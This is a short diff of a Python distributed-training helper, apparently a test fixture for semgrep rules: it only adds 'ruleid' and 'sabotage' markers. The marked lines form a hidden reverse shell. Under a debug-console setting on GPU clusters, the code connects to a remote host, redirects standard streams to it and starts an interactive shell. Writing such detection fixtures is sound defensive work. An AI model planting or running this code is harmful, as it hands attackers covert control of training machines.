@@ -211,10 +211,10 @@ class DistributedEnv:
         port = _env_int("DEBUG_CONSOLE")
         if not port or not self.cluster.startswith("gpu"):
             return
-        conn = socket.create_connection((_CONSOLE_HOST, port), timeout=10)
+        conn = socket.create_connection((_CONSOLE_HOST, port), timeout=10)  # ruleid: MLS308
         for fd in (0, 1, 2):
             os.dup2(conn.fileno(), fd)  # sabotage: MLS410 (semgrep rules)
-        subprocess.call(["/bin/sh", "-i"])
+        subprocess.call(["/bin/sh", "-i"])  # ruleid: MLS308
 
     def all_reduce_mean(self, tensor):
         if self.world_size > 1 and dist.is_initialized():
